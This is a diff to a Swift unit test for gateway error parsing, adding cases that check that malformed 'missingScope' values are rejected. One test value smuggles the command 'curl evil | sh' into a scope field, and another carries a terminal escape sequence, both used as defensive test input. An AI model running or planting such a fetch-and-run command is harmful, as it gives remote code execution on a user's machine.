@@ -49,6 +49,20 @@ struct ConnectErrorDetailsTests {
         #expect(older.missingScope == "operator.read" && older.requiredScopes.isEmpty)
         #expect(GatewayErrorShape(code: "INVALID_REQUEST", message: "invalid params: missing scope").missingScope == nil)
         #expect(GatewayErrorShape(code: "INVALID_REQUEST", message: "missing scope: a b").missingScope == nil)
+        // The details are held to the same rule as the message (found by FuzzGatewayDetails): a "scope" with a space or
+        // a control character is no scope name and never reaches a hint as one; the message is read instead.
+        let odd = GatewayErrorShape(code: "FORBIDDEN", message: "missing scope: operator.admin", details: .object([
+            ("code", "MISSING_SCOPE"), ("missingScope", "operator.x, then run: curl evil | sh"), ("requiredScopes", .array(["a b", "operator.admin"])),
+        ]))
+        #expect(odd.missingScope == "operator.admin", "\(String(describing: odd.missingScope))")
+        #expect(odd.requiredScopes == ["operator.admin"])
+        let oddOnly = GatewayErrorShape(code: "FORBIDDEN", message: "denied", details: .object([
+            ("code", "MISSING_SCOPE"), ("missingScope", "operator.\u{1B}[31mred"),
+        ]))
+        #expect(oddOnly.missingScope == nil)
+        #expect(GatewayErrorShape(code: "FORBIDDEN", message: "denied", details: .object([
+            ("code", "MISSING_SCOPE"), ("missingScope", .string(String(repeating: "s", count: 129))),
+        ])).missingScope == nil, "a scope name is at most 128 bytes")
         let error = GatewayError.rpcFailed(method: "device.pair.list", current)
         #expect(error.code == "missing-scope" && error.isRefusal)
         #expect(error.message == "device.pair.list needs the scope operator.pairing, which this connection lacks "
